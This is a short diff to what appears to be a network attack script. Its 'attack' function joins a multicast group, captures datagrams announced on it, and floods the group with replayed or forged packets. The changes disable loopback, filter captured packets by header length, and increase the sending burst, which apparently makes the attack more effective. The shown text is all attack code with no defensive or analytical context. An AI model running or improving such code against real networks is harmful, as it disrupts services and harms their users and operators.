@@ -108,6 +108,7 @@ def forge(own):
 
 def attack(own):
     sock = group_socket(own)
+    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
     heard = announced(sock)
     group, join, feedback = address(heard[GROUP]), address(heard[JOIN]), address(heard[FEEDBACK])
     listen(sock, group[0], own)
@@ -121,9 +122,9 @@ def attack(own):
     while True:
         try:
             datagram = sock.recv(2048)
-            if len(seen) < 4096:
+            if len(seen) < 4096 and len(datagram) >= HEADER:
                 seen.append(datagram)
-            else:
+            elif len(datagram) >= HEADER:
                 seen[chance.randrange(4096)] = datagram
         except TimeoutError:
             pass
@@ -136,7 +137,7 @@ def attack(own):
             sent += 1
             if sent % 10_000 == 0:
                 print(f"sent {sent} in {time.monotonic() - start:.1f} s", flush=True)
-            if sent % 8 == 0:
+            if sent % 64 == 0:
                 break
 
 
